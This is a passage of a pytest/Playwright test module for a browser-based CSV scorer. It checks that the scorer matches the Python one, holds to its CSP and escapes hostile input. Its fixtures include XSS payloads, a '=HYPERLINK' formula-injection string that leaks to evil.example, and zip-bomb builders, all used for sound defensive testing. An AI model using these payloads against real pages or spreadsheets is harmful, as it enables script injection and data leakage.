"""The in-browser scorer (site/_static/scorer-*.js) in headless Chromium, against `c2c score`.

Each test page is the markup analysis/report/charts/score.py writes for a model (a small
synthetic one, or this session's pipeline run on the real data) with the site's
Content-Security-Policy (analysis.publishing.csp.secure_page). It is served over http (the
scorer runs in a Web Worker) or opened from file:// (Chromium refuses workers there; the same
code runs in the page in steps). Every page must end without a console error, a CSP violation
or a request outside its origin. Screenshots go to test-output/screenshots/.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import re
import shutil
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pandas as pd
import pytest

from analysis.config import PROJECT_ROOT, load_config
from analysis.errors import InputError
from analysis.features.activity import PRODUCT_COLUMNS
from analysis.intake.schema import COLUMNS
from analysis.publishing.csp import secure_page
from analysis.report.charts import present
from analysis.report.charts.score import (
    SCRIPTS,
    STYLESHEET,
    scorer_block,
    scorer_contract,
    scorer_markup,
)
from analysis.scoring import output
from analysis.scoring import score as scoring
from analysis.segments.reasons import REASONS
from analysis.segments.types import GROUP_LABELS, SEGMENT_TYPES, role_codes
from analysis.vocabulary import ALGORITHM_NAMES, TIERS
from tests.browser import Watch, served
from tests.jslex import scan_js
from tests.limits import LIMITS
from tests.scoring_helpers import FLOAT_TOLERANCE, assert_same_csv, build_test_model
from tests.synthetic import make_users

pytestmark = pytest.mark.browser

STATIC = PROJECT_ROOT / "site" / "_static"
JS_FILES = [STATIC / name for name in SCRIPTS]
SCREENSHOTS = PROJECT_ROOT / "test-output" / "screenshots"
HOSTILE_SCRIPT = "<script>window.__pwned=1</script>"
HOSTILE_IMG = '<img src=x onerror="window.__pwned=1">'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Score users (test page)</title><link rel="icon" href="data:,">
<link rel="stylesheet" href="_static/test-theme.css"></head>
<body><main><h1>Score users</h1>
{body}
</main></body></html>
"""


# --------------------------------------------------------------------------------------------
# Pages: built from score.py's markup, served or opened from disk, with guards
# --------------------------------------------------------------------------------------------

#: Stands in for the PyData theme on the test page: its colour variables, light and dark.
THEME = """
html { --pst-color-background: #ffffff; --pst-color-text-base: #222832;
  --pst-color-text-muted: #5b6470; --pst-color-surface: #f3f4f6; --pst-color-border: #d1d5da; }
html[data-theme="dark"] { --pst-color-background: #14181e; --pst-color-text-base: #ced6dd;
  --pst-color-text-muted: #9ca4af; --pst-color-surface: #29313d; --pst-color-border: #48566b; }
body { background: var(--pst-color-background); color: var(--pst-color-text-base);
  font-family: system-ui, sans-serif; margin: 0 1rem; }
"""


def write_site(root: Path, body: str) -> Path:
    """A folder holding index.html (``body`` inside, the CSP in its head) and the scorer files."""
    (root / "_static").mkdir(parents=True, exist_ok=True)
    for name in (*SCRIPTS, STYLESHEET):
        shutil.copy(STATIC / name, root / "_static" / name)
    (root / "_static" / "test-theme.css").write_text(THEME, encoding="utf-8")
    (root / "index.html").write_text(secure_page(PAGE.format(body=body)), encoding="utf-8")
    return root


def scoring_settings() -> tuple[dict, float]:
    """The page settings of this project's config (what the manifest records)."""
    config = load_config()
    return ({"browser_max_bytes": config.scoring.browser_max_bytes,
             "page_size": config.scoring.page_size}, config.validation.max_unzip_ratio)


@pytest.fixture(scope="module")
def model() -> dict:
    return build_test_model(make_users(600, seed=0))


@pytest.fixture(scope="module")
def site(tmp_path_factory, model) -> Path:
    settings, ratio = scoring_settings()
    return write_site(tmp_path_factory.mktemp("site"), scorer_markup(model, settings, ratio))


@pytest.fixture(scope="module")
def server(site):
    with served(site) as url:
        yield url


@pytest.fixture(scope="module")
def real_site(tmp_path_factory, real_artifacts) -> Path:
    """The page as the site builds it: scorer_block() reading this session's real artifacts."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("C2C_ARTIFACTS", str(real_artifacts[0]))
        present.load.cache_clear()
        body = scorer_block().data
    present.load.cache_clear()
    return write_site(tmp_path_factory.mktemp("real-site"), body)


@pytest.fixture(scope="module")
def real_server(real_site):
    with served(real_site) as url:
        yield url


@pytest.fixture(scope="module")
def real_model(real_artifacts) -> dict:
    return scoring.load_model(real_artifacts[0] / "model.json")


@pytest.fixture(scope="module")
def real_text(real_data) -> str:
    """The real export as text, read from the zip at test time (never copied to the repo)."""
    with zipfile.ZipFile(real_data) as archive:
        return archive.read(archive.namelist()[0]).decode("utf-8")


@contextmanager
def opened(browser, url: str, width: int = 1366, dark: bool = False) -> Iterator[object]:
    """The page at ``url`` with its guards; fails on a console error, a CSP violation or a
    request outside the page's origin (its host and port, or its folder for file://)."""
    context = browser.new_context(accept_downloads=True, viewport={"width": width,
                                                                   "height": 900})
    page = context.new_page()
    base = urlsplit(url)
    folder = base.path.rsplit("/", 1)[0] + "/"

    def allowed(request_url: str) -> bool:
        got = urlsplit(request_url)
        if base.scheme == "file":
            return got.scheme == "file" and got.path.startswith(folder)
        return got.scheme == base.scheme and got.netloc == base.netloc

    watch = Watch(page, allowed)
    page.watch = watch
    page.goto(url)
    if dark:
        page.evaluate("() => document.documentElement.setAttribute('data-theme', 'dark')")
    page.wait_for_selector("#c2c-scorer[data-state='ready']", timeout=15_000)
    try:
        yield page
        assert watch.problems() == {"console errors": [], "requests outside": [],
                                    "CSP violations": []}
        fetched = [r.url for r in watch.requests if r.resource_type in ("fetch", "xhr")]
        assert fetched == [], f"the page fetched {fetched}"
    finally:
        context.close()


def choose(page, files, timeout_ms: int = 60_000) -> str:
    """Choose ``files`` (a path, or Playwright's {name, mimeType, buffer}) in the page's file
    input and wait until the run is done or refused; returns the scorer's state."""
    page.evaluate("() => { document.getElementById('c2c-scorer').dataset.state = 'choosing'; }")
    page.set_input_files("#c2c-file", files=files)
    page.wait_for_function("() => ['done', 'error', 'cancelled'].includes("
                           "document.getElementById('c2c-scorer').dataset.state)",
                           timeout=timeout_ms)
    return page.get_attribute("#c2c-scorer", "data-state")


def csv_payload(name: str, data: bytes) -> dict:
    return {"name": name, "mimeType": "text/csv", "buffer": data}


def message(page) -> str:
    return page.locator("[data-part=message]").inner_text()


def summary(page) -> str:
    return page.locator("[data-part=summary]").inner_text()


def shot(page, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / name), full_page=True)


def download(page, button: str) -> tuple[str, str]:
    """(suggested file name, text) of the download a result button offers."""
    with page.expect_download() as got:
        page.locator(f"[data-part={button}]").click()
    return got.value.suggested_filename, Path(got.value.path()).read_bytes().decode("utf-8")


# --------------------------------------------------------------------------------------------
# The two scorers side by side
# --------------------------------------------------------------------------------------------

JS_SCORE = """async ([data64, name, choices, nudge]) => {
  const root = document.getElementById("c2c-scorer");
  const model = JSON.parse(document.getElementById("c2c-model").textContent);
  const contract = JSON.parse(document.getElementById("c2c-scorer-contract").textContent);
  const limits = { maxBytes: Number(root.dataset.maxBytes),
    maxRatio: Number(root.dataset.maxUnzipRatio) };
  const bytes = Uint8Array.from(atob(data64), (c) => c.charCodeAt(0));
  const session = c2cJob.createSession(model, contract);
  const nothing = () => undefined;
  const out = [];
  try {
    for (const [i, choice] of choices.entries()) {
      const r = i === 0 ? await session.load(bytes.buffer, name, limits, choice, nothing, nothing)
        : await session.rescore(choice, nothing, nothing);
      const s = r.scored;
      if (nudge) {  // one ulp up: the bits of each distance and margin plus one
        const bits = new BigUint64Array(1);
        const float = new Float64Array(bits.buffer);
        for (const values of [s.distance, s.margin]) {
          values.forEach((x, j) => { float[0] = x; bits[0] += 1n; values[j] = float[0]; });
        }
      }
      out.push({ rowsIn: r.rowsIn, algorithm: r.algorithm, k: r.k, extra: r.extraColumns,
        ids: s.ids, cluster: Array.from(s.cluster), tier: Array.from(s.tier, (t) => model.tiers[t]),
        segment: Array.from(s.segment, (g) => r.segmentNames[g]), reason: s.reason,
        distance: Array.from(s.distance), margin: Array.from(s.margin),
        tied: Array.from(s.tied, Boolean),
        rejected: Array.from(r.rejected.line, (line, j) => [line, r.rejected.reason[j]]),
        scoredCsv: c2cCore.scoredCsv(session.scorer, r), rejectedCsv: c2cCore.rejectedCsv(r) });
    }
    return out;
  } catch (err) {
    return { error: err.message, name: err.name };
  }
}"""


def js_score(page, data: bytes, name: str, choices: list[tuple[str, int]], nudge: bool = False):
    """The page's scorer (c2cJob, as the Worker runs it) on ``data``: one result per
    (algorithm, k), or {'error', 'name'}. ``nudge`` moves every distance and margin one ulp
    before the CSV is written."""
    return page.evaluate(JS_SCORE, [base64.b64encode(data).decode("ascii"), name,
                                    [{"algorithm": a, "k": k} for a, k in choices], nudge])


def py_score(data: bytes, name: str, model: dict, tmp_path: Path, algorithm=None, k=None):
    """`c2c score` on the same bytes through a file: (result, scored CSV, rejected CSV)."""
    path = tmp_path / name
    path.write_bytes(data)
    result = scoring.score_file(path, model, algorithm, k, limits=LIMITS)
    out, rej = tmp_path / "out.csv", tmp_path / "rej.csv"
    output.write_outputs(result, out, rej)
    return result, out.read_bytes().decode("utf-8"), rej.read_bytes().decode("utf-8")


def assert_same(js: dict, py: scoring.ScoreResult, py_out: str, py_rej: str) -> float:
    """Identical ids, clusters, tiers, segments, reasons, ties, rejects and extra columns;
    distances and margins within FLOAT_TOLERANCE; the same CSV files. Returns the largest gap."""
    assert "error" not in js, js
    scored = py.scored
    assert js["rowsIn"] == py.rows_in
    assert js["ids"] == [str(v) for v in scored["identifierHash"]]
    assert js["cluster"] == scored["cluster"].tolist()
    assert js["tier"] == scored["tier"].astype(str).tolist()
    assert js["segment"] == scored["segment"].tolist()
    assert js["reason"] == scored["reason"].tolist()
    assert js["tied"] == scored["tied"].tolist()
    assert js["rejected"] == [[int(line), reason] for line, reason in
                              zip(py.rejected["line"], py.rejected["reject_reason"], strict=True)]
    assert js["extra"] == py.extra_columns
    gap = 0.0
    for column in ("distance", "margin"):
        if len(scored):
            gap = max(gap, float(np.abs(np.array(js[column]) - scored[column].to_numpy()).max()))
    assert gap <= FLOAT_TOLERANCE
    assert_same_csv(js["scoredCsv"], py_out)
    assert_same_csv(js["rejectedCsv"], py_rej)
    return gap


def first_sentence(error: str) -> str:
    """An InputError's words after the file label, up to any '(' detail or '; ' list."""
    return re.split(r" \(|; ", error.split(": ", 1)[1])[0]


def assert_same_fault(js, data: bytes, name: str, model: dict, tmp_path: Path) -> str:
    """Both scorers refuse the file with the same first sentence; returns it."""
    assert isinstance(js, dict) and js.get("name") == "InputError", js
    with pytest.raises(InputError) as raised:
        py_score(data, name, model, tmp_path)
    assert first_sentence(js["error"]) == first_sentence(str(raised.value)), \
        (js["error"], str(raised.value))
    return first_sentence(js["error"])


def chosen_of(model: dict) -> list[tuple[str, int]]:
    return [(model["chosen"]["algorithm"], model["chosen"]["k"])]


# --------------------------------------------------------------------------------------------
# Static checks: the scripts retype nothing of the schema, and stay small
# --------------------------------------------------------------------------------------------

def forbidden_literals() -> dict[str, list[str]]:
    """What the scripts must take from the model, never retype, by kind."""
    reason_parts = [part.strip(" ;,()+") for value in REASONS.values() if isinstance(value, str)
                    for part in value.split("{}")]
    reason_parts += [template.split("{}")[0].strip() or template.split("{}")[1].strip()
                     for _, template in REASONS["facts"]]
    return {
        "column": list(COLUMNS),
        "tier": list(TIERS),
        "algorithm": [*ALGORITHM_NAMES, *ALGORITHM_NAMES.values()],
        "segment": [t for row in SEGMENT_TYPES for t in row[:2]] + list(GROUP_LABELS.values()),
        "reason": [p for p in reason_parts if len(p) >= 4],
    }


def test_scripts_retype_no_schema_tier_colour_name_or_template():
    colours = [c.lower() for c in load_config().tiers.colors.values()]
    camel = [c for c in COLUMNS if c != c.lower() or c == "seniority"]
    offenders = []
    for path in JS_FILES:
        source = path.read_text(encoding="utf-8")
        literals, _ = scan_js(source)
        for name in camel:  # distinctive names: not even in comments or identifiers
            if re.search(rf"\b{name}\b", source):
                offenders.append(f"{path.name}: column {name}")
        offenders += [f"{path.name}: colour {c}" for c in colours if c in source.lower()]
        for kind, words in forbidden_literals().items():
            for word in words:
                pattern = re.compile(rf"(?<![\w-]){re.escape(word)}(?![\w-])", re.I)
                offenders += [f"{path.name}: {kind} {word!r} in {lit!r}" for lit in literals
                              if pattern.search(lit)]
    assert offenders == []


def test_the_literal_scan_would_see_a_retyped_name():
    source = 'const a = `x ${f({ y: 1 })} moderate`; // inactive\nconst b = "#E69F00";'
    literals, _ = scan_js(source)
    assert any("moderate" in lit for lit in literals)
    assert not any("inactive" in lit for lit in literals)
    assert "#E69F00" in literals


def test_markup_has_no_inline_code_and_carries_the_model(model):
    settings, ratio = scoring_settings()
    markup = scorer_markup(model, settings, ratio)
    assert "<style" not in markup and not re.search(r"\sstyle=", markup)
    assert not re.search(r"\son[a-z]+\s*=", markup, re.I)
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", markup, re.S)
    assert [attrs for attrs, body in scripts if body.strip()] == \
        [' type="application/json" id="c2c-model"',
         ' type="application/json" id="c2c-scorer-contract"']
    assert [re.search(r'src="([^"]+)"', a).group(1) for a, body in scripts if not body.strip()] \
        == [f"_static/{name}" for name in SCRIPTS]
    hostile = {**model, "formula": "</script><script>alert(1)</script><!--"}
    block = re.search(r'id="c2c-model">(.*?)</script>', scorer_markup(hostile, settings, ratio),
                      re.S).group(1)
    assert "</" not in block and "<!--" not in block
    assert json.loads(block) == hostile
    assert markup.index('id="c2c-file"') < markup.index('data-part="results"')
    assert f'data-max-bytes="{settings["browser_max_bytes"]}"' in markup


def test_contract_roles_are_python_role_codes():
    """The page's rule (a user's role is the smallest code among their product columns above
    0) gives types.role_codes on every combination of product columns."""
    contract = scorer_contract()
    codes = np.array([contract["role_of_column"][c] for c in PRODUCT_COLUMNS])
    combos = np.array([[(m >> j) & 1 for j in range(len(PRODUCT_COLUMNS))]
                       for m in range(2 ** len(PRODUCT_COLUMNS))], dtype=np.int64)
    rule = [min([c for c, on in zip(codes, row, strict=True) if on], default=0) for row in combos]
    assert role_codes(combos).tolist() == rule
    assert contract["scored_columns"] == scoring.SCORED_COLUMNS


@pytest.mark.slow
@pytest.mark.realdata
def test_score_page_reads_its_settings_and_model_from_the_release(real_site, real_artifacts):
    html = (real_site / "index.html").read_text(encoding="utf-8")
    manifest = real_artifacts[1]
    assert f'data-max-bytes="{manifest["config"]["scoring"]["browser_max_bytes"]}"' in html
    assert 'data-max-bytes="209715200"' in html  # 200 MB, config [scoring]
    assert f'data-page-size="{manifest["config"]["scoring"]["page_size"]}"' in html
    assert "never leaves your browser" in html
    assert "joins the Ward cluster with the nearest centroid" in " ".join(html.split())
    page = (PROJECT_ROOT / "site" / "score.md").read_text(encoding="utf-8")
    assert "scorer_block()" in page and ":tags: [remove-input]" in page


# --------------------------------------------------------------------------------------------
# The page over http (the Worker) and from file:// (the same code in the page)
# --------------------------------------------------------------------------------------------

WORKER_SPY = """
window.__posted = [];
const realPost = Worker.prototype.postMessage;
Worker.prototype.postMessage = function (message, transfer) {
  window.__posted.push(message && message.type);
  return realPost.call(this, message, transfer);
};
"""


def test_page_starts_with_the_file_picker_and_runs_in_a_worker(browser, server):
    with opened(browser, f"{server}/index.html") as page:
        first = page.evaluate("""() => [...document.querySelectorAll(
            '#c2c-scorer input, #c2c-scorer select, #c2c-scorer button')][0].id""")
        assert first == "c2c-file"
        assert page.get_attribute("#c2c-scorer", "data-engine") == "worker"
        assert page.locator("[data-part=results]").is_hidden()
        assert page.locator("details.c2c-explain").evaluate("d => d.open") is False


def test_results_bars_tables_and_solution_switch(browser, server, model):
    users = make_users(120, seed=12).astype(str)
    users.loc[3, "productsSold"] = "-1"
    data = users.to_csv(index=False).encode()
    with opened(browser, f"{server}/index.html") as page:
        page.add_init_script(WORKER_SPY)
        page.reload()
        page.wait_for_selector("#c2c-scorer[data-state='ready']")
        assert choose(page, csv_payload("users.csv", data)) == "done"
        names = model["algorithm_names"]
        chosen = model["chosen"]
        assert summary(page) == (f"120 rows in, 119 scored, 1 rejected "
                                 f"({names[chosen['algorithm']]}, k = {chosen['k']})")
        bars = page.locator("[data-part=tierBars] .c2c-bar")
        assert bars.count() == len(model["tiers"])
        colours = bars.evaluate_all("bs => bs.map(b => getComputedStyle(b).backgroundColor)")
        assert colours == [_rgb(model["tier_colors"][t]) for t in model["tiers"]]
        widths = bars.evaluate_all("bs => bs.map(b => b.style.width)")
        assert "100%" in widths and all(w.endswith("%") for w in widths)
        assert page.locator("[data-part=segmentBars] .c2c-bar").count() >= 2
        page_size = load_config().scoring.page_size
        assert page.locator("[data-part=scored] tbody tr").count() == page_size
        assert "Page 1 of 3" in page.locator("[data-part=scored] .c2c-page-info").inner_text()
        page.locator("[data-part=scored] .c2c-next").click()
        assert "Page 2 of 3" in page.locator("[data-part=scored] .c2c-page-info").inner_text()
        assert page.locator("[data-part=rejected] td",
                            has_text='productsSold "-1" is negative').count() == 1
        other = next(s for s in model["solutions"] if s["algorithm"] != chosen["algorithm"])
        page.evaluate("() => { document.getElementById('c2c-scorer').dataset.state = 'x'; }")
        page.select_option("#c2c-algorithm", other["algorithm"])
        page.select_option("#c2c-k", str(other["k"]))
        page.wait_for_function(f"() => document.querySelector('[data-part=summary]').textContent"
                               f".endsWith('({names[other['algorithm']]}, k = {other['k']})')")
        row = page.locator("[data-part=scored] tbody tr").first.locator("td").all_inner_texts()
        assert row[-3:-1] == [other["algorithm"], str(other["k"])]
        assert page.evaluate("() => window.__posted") == ["score", "rescore", "rescore"]


@pytest.mark.slow
def test_two_quick_solution_changes_show_the_last_one(browser, server, model, tmp_path):
    """The Worker answers jobs in order; the page keeps only the answer to the newest one."""
    big = big_csv(tmp_path / "big.csv", 150_000)
    with opened(browser, f"{server}/index.html") as page:
        assert choose(page, str(big)) == "done"
        switched = page.evaluate("""() => {
            document.getElementById('c2c-scorer').dataset.state = 'changing';
            const algorithm = document.getElementById('c2c-algorithm');
            const other = [...algorithm.options].find((o) => o.value !== algorithm.value);
            algorithm.value = other.value;
            algorithm.dispatchEvent(new Event('change'));  // job 1: the other algorithm
            const k = document.getElementById('c2c-k');
            const first = k.value;
            k.value = [...k.options].find((o) => o.value !== first).value;
            k.dispatchEvent(new Event('change'));  // job 2, posted before job 1 is answered
            return [algorithm.value, first, k.value];
        }""")
        algorithm, first_k, last_k = switched
        assert first_k != last_k
        page.wait_for_function("() => document.getElementById('c2c-scorer').dataset.state"
                               " === 'done'", timeout=60_000)
        time.sleep(1.0)  # an older answer arriving late would show up now
        name = model["algorithm_names"][algorithm]
        assert summary(page).endswith(f"({name}, k = {last_k})")
        row = page.locator("[data-part=scored] tbody tr").first.locator("td").all_inner_texts()
        assert row[-3:-1] == [algorithm, last_k]


def _rgb(hex_colour: str) -> str:
    r, g, b = (int(hex_colour[i:i + 2], 16) for i in (1, 3, 5))
    return f"rgb({r}, {g}, {b})"


def big_csv(path: Path, rows: int) -> Path:
    """``rows`` synthetic users with unique ids (a file that takes seconds to score)."""
    block = make_users(2000, seed=4)
    header, *lines = block.to_csv(index=False).splitlines()
    tails = [line.split(",", 1)[1] for line in lines]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(header + "\n")
        for start in range(0, rows, len(tails)):
            fh.write("".join(f"{start + i + 1},{tail}\n"
                             for i, tail in enumerate(tails[:rows - start])))
    return path


@pytest.mark.slow
@pytest.mark.parametrize("engine", ["worker", "page"])
def test_progress_is_shown_and_cancel_stops_the_run(browser, server, site, tmp_path, engine):
    big = big_csv(tmp_path / "big.csv", 700_000)
    url = f"{server}/index.html" if engine == "worker" else (site / "index.html").as_uri()
    with opened(browser, url) as page:
        assert page.get_attribute("#c2c-scorer", "data-engine") == engine
        page.set_input_files("#c2c-file", str(big))
        page.wait_for_function("() => { const p = document.querySelector('[data-part=progress]');"
                               " return p.value > 0.02 && p.value < 0.9; }", timeout=30_000)
        assert page.locator("[data-part=progressBox]").is_visible()
        page.locator("[data-part=cancel]").click()
        assert page.get_attribute("#c2c-scorer", "data-state") == "cancelled"
        time.sleep(1.5)  # a run that was not stopped would finish or post progress by now
        assert page.get_attribute("#c2c-scorer", "data-state") == "cancelled"
        assert page.locator("[data-part=progressBox]").is_hidden()
        assert page.locator("[data-part=results]").is_hidden()
        assert page.locator("[data-part=status]").inner_text().startswith("Cancelled")
        small = make_users(5, seed=1).to_csv(index=False).encode()
        assert choose(page, csv_payload("small.csv", small)) == "done"
        assert "5 scored" in summary(page)


def test_a_file_over_the_limit_gets_one_sentence(browser, server, tmp_path):
    limit = load_config().scoring.browser_max_bytes
    huge = tmp_path / "huge.csv"
    with open(huge, "wb") as fh:
        fh.truncate(limit + 1)  # sparse: no disk used, and the page never reads it
    with opened(browser, f"{server}/index.html") as page:
        assert choose(page, str(huge)) == "error"
        assert message(page) == (f"Cannot read huge.csv: it is {limit + 1:,} bytes, more than the "
                                 f"{limit // 1048576} MB this page reads; use `c2c score huge.csv "
                                 "-o scored.csv` instead.")
        assert page.locator("[data-part=results]").is_hidden()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def corrupt(data: bytes) -> bytes:
    """The zip with bytes of its member's compressed data changed."""
    start = 30 + int.from_bytes(data[26:28], "little") + int.from_bytes(data[28:30], "little")
    middle = start + 40
    return data[:middle] + bytes(b ^ 0x5A for b in data[middle:middle + 16]) + data[middle + 16:]


def encrypted(data: bytes) -> bytes:
    """The zip with its member marked encrypted (flag bit 0) in both headers."""
    out = bytearray(data)
    central = out.rfind(b"PK\x01\x02")
    out[6] |= 1
    out[central + 8] |= 1
    return bytes(out)


def zip_cases() -> dict[str, tuple[bytes, str]]:
    users = make_users(30, seed=3).to_csv(index=False).encode()
    plain = zipped({"users.csv": users})
    return {
        "two CSVs": (zipped({"a.csv": users, "b.csv": users}), "holds 2 CSV files"),
        "no CSV": (zipped({"notes.txt": b"hello", "data/": b""}), "holds no CSV file"),
        "corrupt": (corrupt(plain), "corrupt or unsupported"),
        "encrypted": (encrypted(plain), "corrupt or unsupported"),
        "truncated": (plain[: len(plain) // 2], "not a valid zip archive"),
        "bomb": (zipped({"zeros.csv": b"identifierHash\n" + b"0\n" * 3_000_000}),
                 "it expands to more than"),
        "not a zip": (b"PK\x03\x04" + b"\x00" * 60, "not a valid zip archive"),
    }


@pytest.mark.parametrize("case", list(zip_cases()))
def test_zip_faults_get_pythons_sentence(browser, server, model, tmp_path, case):
    data, phrase = zip_cases()[case]
    with opened(browser, f"{server}/index.html") as page:
        js = js_score(page, data, "users.zip", chosen_of(model))
        words = assert_same_fault(js, data, "users.zip", model, tmp_path)
        assert phrase in words
        assert choose(page, {"name": "users.zip", "mimeType": "application/zip",
                             "buffer": data}) == "error"
        assert phrase in message(page)
        assert page.locator("[data-part=results]").is_hidden()


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
def test_zips_score_like_python(browser, server, model, tmp_path, method):
    users = make_users(80, seed=6).astype(str)
    users.loc[5, "productsBought"] = "lots"
    text = users.to_csv(index=False).encode()
    data = zipped({"__MACOSX/._users.csv": b"\x00\x05junk", "export/": b"",
                   "export/users.csv": text}, method)
    with opened(browser, f"{server}/index.html") as page:
        js = js_score(page, data, "users.zip", chosen_of(model))
        assert_same(js[0], *py_score(data, "users.zip", model, tmp_path))
        assert choose(page, {"name": "users.zip", "mimeType": "application/zip",
                             "buffer": data}) == "done"
        assert summary(page).startswith("80 rows in, 79 scored, 1 rejected")


def broken_users() -> pd.DataFrame:
    """Synthetic users with every kind of bad cell, hostile text and duplicate ids."""
    users = make_users(60, seed=11).astype(str)
    edits = {
        (0, "identifierHash"): "-1.0979E+18", (1, "identifierHash"): "",
        (2, "identifierHash"): "9223372036854775808", (3, "identifierHash"): "0042",
        (4, "productsSold"): "-3", (5, "productsSold"): "1.5", (6, "productsSold"): "",
        (7, "socialNbFollowers"): "x" * 80, (8, "daysSinceLastLogin"): "99999",
        (9, "daysSinceLastLogin"): "-0", (10, "seniority"): "n/a",
        (11, "productsWished"): " 3", (12, "productsBought"): "٣",  # an Arabic-Indic digit
        (13, "country"): HOSTILE_SCRIPT, (13, "productsListed"): HOSTILE_IMG,
        (14, "identifierHash"): HOSTILE_IMG, (15, "country"): HYPERLINK,
        (15, "productsBought"): "lots", (16, "daysSinceLastLogin"): "abc",
        (17, "socialNbFollows"): "1e3", (18, "productsSold"): "😀" * 45,
        (19, "identifierHash"): "-9223372036854775808", (20, "productsListed"): "+4",
        (21, "socialProductsLiked"): "1000001", (22, "daysSinceLastLogin"): "3300",
        (23, "seniority"): "99999", (24, "identifierHash"): "=1+1",
    }
    for (row, col), value in edits.items():
        users.loc[row, col] = value
    users.loc[30, "identifierHash"] = users.loc[25, "identifierHash"]
    users.loc[31, "identifierHash"] = users.loc[3, "identifierHash"].lstrip("0")  # 42 vs 0042
    return users


def test_broken_rows_get_the_same_reasons_in_both(browser, server, model, tmp_path):
    users = broken_users()
    users["<b>extra</b>"] = "1"
    data = users.to_csv(index=False, lineterminator="\r\n").encode()
    with opened(browser, f"{server}/index.html") as page:
        js = js_score(page, data, "broken.csv", chosen_of(model))[0]
    assert_same(js, *py_score(data, "broken.csv", model, tmp_path))
    assert js["extra"] == ["<b>extra</b>"]
    reasons = dict(js["rejected"])
    expected = model["kinds"]["daysSinceLastLogin"]["expected"]
    assert reasons[18] == f'daysSinceLastLogin "abc" is not {expected}'
    assert reasons[33] == "duplicate identifierHash (first seen on line 5)"  # 42 == 0042
    assert len(reasons) >= 20


def test_hostile_cells_show_as_text_and_downloads_are_neutralised(browser, server, model,
                                                                  tmp_path):
    data = broken_users().to_csv(index=False).encode()
    py, py_out, py_rej = py_score(data, "hostile.csv", model, tmp_path)
    with opened(browser, f"{server}/index.html") as page:
        assert choose(page, csv_payload("hostile.csv", data)) == "done"
        assert page.evaluate("() => window.__pwned") is None
        assert page.locator("#c2c-scorer img, #c2c-scorer table script").count() == 0
        cells = page.locator("[data-part=rejected] td")
        assert cells.filter(has_text=HOSTILE_SCRIPT).count() == 1
        assert cells.filter(has_text=HOSTILE_IMG).count() >= 2  # the id cell and a reason
        while page.locator("[data-part=rejected] .c2c-next").is_enabled():
            page.locator("[data-part=rejected] .c2c-next").click()
        assert page.evaluate("() => window.__pwned") is None
        name, rejected_csv = download(page, "downloadRejected")
        assert name == "rejected.csv"
        assert_same_csv(rejected_csv, py_rej)
        name, scored_csv = download(page, "downloadScored")
        assert name == "scored.csv"
        assert_same_csv(scored_csv, py_out)
    flat = [cell for row in csv.reader(io.StringIO(rejected_csv, newline="")) for cell in row]
    assert "'" + HYPERLINK in flat and "'=1+1" in flat
    risky = [c for c in flat if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky and all(output.PLAIN_NUMBER.fullmatch(c) for c in risky)  # numbers only
    assert "-1.0979E+18" in flat and "+4" in flat  # number-looking cells are left alone


def test_the_csp_guard_sees_a_violation(browser, server):
    """Positive control: an inline event handler added to the page is refused and reported."""
    context = browser.new_context()
    page = context.new_page()
    watch = Watch(page, lambda url: True)
    page.goto(f"{server}/index.html")
    page.wait_for_selector("#c2c-scorer[data-state='ready']")
    page.evaluate(f"() => document.body.insertAdjacentHTML('beforeend', {HOSTILE_IMG!r})")
    page.wait_for_function("() => window.__cspViolations.length > 0")
    assert page.evaluate("() => window.__pwned") is None
    assert watch.violations() and watch.errors
    context.close()


FILE_FAULTS = [
    b"",
    b"\n\n  \n",
    b"\xef\xbb\xbf",
    (",".join(make_users(1).columns) + "\n").encode(),
    b"identifierHash;productsSold\n1;2\n",
    b"identifierHash\tproductsSold\n1\t2\n",
    b"a,b,a,b\n1,2,3,4\n",
    b"identifierHash,productsSold\n1,2\n",
    (",".join(make_users(1).columns) + "\n1,2,3\n").encode(),
    (",".join(make_users(1).columns) + "\n" + ",".join(["1"] * 25) + "\n").encode(),
    b"\n" + (",".join(make_users(1).columns) + "\n").encode(),
    b",,,\n1,2,3,4\n",
    b"bin\x00ary",
    "identifierHash,country\n1,Espa\u00f1a\n".encode("latin-1"),
    b"identifierHash\n1\n\xe2\x82\n",
    b"identifierHash\n1\n\xed\xa0\x80\n",
    bytes(range(256)) * 4,
]


@pytest.mark.parametrize("data", FILE_FAULTS, ids=range(len(FILE_FAULTS)))
def test_file_level_faults_agree_with_python(browser, server, model, tmp_path, data):
    with opened(browser, f"{server}/index.html") as page:
        js = js_score(page, data, "input.csv", chosen_of(model))
    assert_same_fault(js, data, "input.csv", model, tmp_path)


def test_file_level_faults_name_the_same_place(browser, server, model, tmp_path):
    """Byte offsets and lines of binary and non-UTF-8 files are Python's, word for word."""
    cases = [b"identifierHash\n1\n2\x003\n", b"\xef\xbb\xbfidentifierHash\n1\nSpa\xf1a\n",
             "identifierHash\n\ufffd\u00e9\n".encode() + b"\xc3(\n", b"id\n\xe2\x82\n",
             b"id\r\n\xed\xa0\x80\n", b"id\n\xf4\x90\x80\x80", b"id\n\xe2\x82"]
    with opened(browser, f"{server}/index.html") as page:
        for data in cases:
            js = js_score(page, data, "input.csv", chosen_of(model))
            with pytest.raises(InputError) as raised:
                py_score(data, "input.csv", model, tmp_path)
            assert js["error"].split(": ", 1)[1] == str(raised.value).split(": ", 1)[1]


GARBAGE_POOL = ["", " ", "0", "-0", "007", "+4", "1.0", "1e3", "-1", "12 ", "٣", "abc", '"', '""',
                "a,b", "\r", "\n", "\r\n", "x\ry", "9223372036854775807", "9223372036854775808",
                "-9223372036854775808", "-1.0979E+18", HOSTILE_SCRIPT, HOSTILE_IMG, HYPERLINK,
